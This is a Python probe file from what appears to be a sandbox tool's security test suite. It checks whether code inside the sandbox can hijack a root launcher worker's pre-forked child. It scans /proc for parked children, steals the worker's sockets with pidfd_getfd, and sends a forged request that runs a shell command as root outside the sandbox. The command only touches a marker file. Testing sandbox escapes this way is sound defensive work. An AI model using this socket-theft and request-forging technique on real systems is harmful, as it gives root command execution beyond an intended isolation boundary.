"""The warm worker's parked sandbox child, hijacked from the sandbox (M8).

As root, a warm launcher worker keeps the next sandbox's first process
forked and parked on a socketpair (`sandbox.prefork`): whoever writes a
request to the worker's end makes that root process exec any argv with any
set-up (no uid drop, no sandbox). The probe looks for parked children
(`corral-spawn` in /proc), steals each socket their worker holds with
pidfd_getfd, and sends a request to run `touch WS_PARENT/pwned-MARKER`. When
it can run corral's interpreter (the bare host), it starts a launcher of its
own, as the front end's fallback would, and takes only that one's child.
Judged on the host: the file exists after the run.
"""

from __future__ import annotations

import sys

from corral.exec import launcher
from corral.verify.model import PathExists, Probe
from corral.verify.oracles import Fact
from corral.verify.probes._dsl import code

__all__ = ["PROBES"]

_HOST = {"python": sys.executable, "src": launcher.source_root(), "boot": launcher._BOOT}

_CODE = f"H = {_HOST!r}\n" + code("""
    import marshal
    pwn = P["ws_parent"] + "/pwned-" + MARKER

    def parked():
        out = []
        for pid in os.listdir("/proc"):
            if pid.isdigit():
                try:
                    with open("/proc/%s/comm" % pid) as f:
                        if f.read().strip() == "corral-spawn":
                            out.append(int(pid))
                except OSError:
                    pass
        return out

    def hijack(child):
        try:
            with open("/proc/%d/stat" % child) as f:
                worker = int(f.read().rsplit(")", 1)[1].split()[1])
            fds = [int(n) for n in os.listdir("/proc/%d/fd" % worker)]
        except OSError as e:
            print("inspect", errname(e.errno))
            return
        pidfd, e = sysc("pidfd_open", worker, 0)
        if pidfd < 0:
            print("pidfd_open", errname(e))
            return
        argv = ["/bin/sh", "-c", "touch " + pwn]
        # No uid drop, no sandbox: what a forged request would get.
        setup = (False, [], -1, 0, 0, worker, None, 2, None, [])
        # Not gated: no wait for a placeholders' go (`prefork._receive`'s last field).
        req = (argv, {"PATH": "/usr/bin:/bin"}, [0, 1, 2], 3, 0o22, [], setup, False)
        body = marshal.dumps(req)
        for n in fds:
            fd, e = sysc("pidfd_getfd", pidfd, n, 0)
            if fd < 0:
                print("pidfd_getfd", errname(e))
                continue
            try:
                s = socket.socket(fileno=fd)
            except OSError as e:
                print("send", errname(e.errno))
                os.close(fd)
                continue
            # The socket object owns the stolen descriptor now: closed once, by it
            # (a second close could hit a descriptor reused meanwhile).
            with s:
                try:
                    s.sendmsg([struct.pack("!I", len(body)) + body],
                              [(socket.SOL_SOCKET, socket.SCM_RIGHTS, struct.pack("3i", 0, 1, 2))])
                    print("sent on a stolen socket")
                except OSError as e:
                    print("send", errname(e.errno))

    def hit():
        for _ in range(40):
            if os.path.exists(pwn):
                return True
            time.sleep(0.05)
        return False

    def ppid(pid):
        try:
            with open("/proc/%d/stat" % pid) as f:
                return int(f.read().rsplit(")", 1)[1].split()[1])
        except OSError:
            return -1

    own = None
    if os.access(H["python"], os.X_OK) and os.path.isdir(H["src"]):
        # The bare host: a launcher of the probe's own, as the front end's fallback
        # would start, and only its parked child (another probe's launcher is not
        # this probe's to take: hijacking it fails that probe's request).
        own, sock = own_launcher(H)
        tried = []
        for _ in range(400 if own is not None else 0):
            tried = [c for c in parked() if ppid(ppid(c)) == own.pid]
            if tried:
                break
            time.sleep(0.05)
    else:
        # Inside a sandbox: every parked child it can see is the target.
        tried = parked()
    for child in tried:
        hijack(child)
    if tried:
        hit()
    print("parked children seen:", len(tried))
    if own is not None:
        stop_launcher(own, sock)
    """)

PROBES: list[Probe] = [
    Probe(
        "priv-prefork-hijack",
        "privilege",
        "M8",
        "steal the socket of a launcher worker's parked sandbox child (pidfd_getfd) and have it "
        "run a command as root outside any sandbox",
        _CODE,
        Fact("pwned", "a parked sandbox child ran the probe's command outside the sandbox"),
        checks=(PathExists("pwned", "{ws_parent}/pwned-{marker}"),),
    ),
]
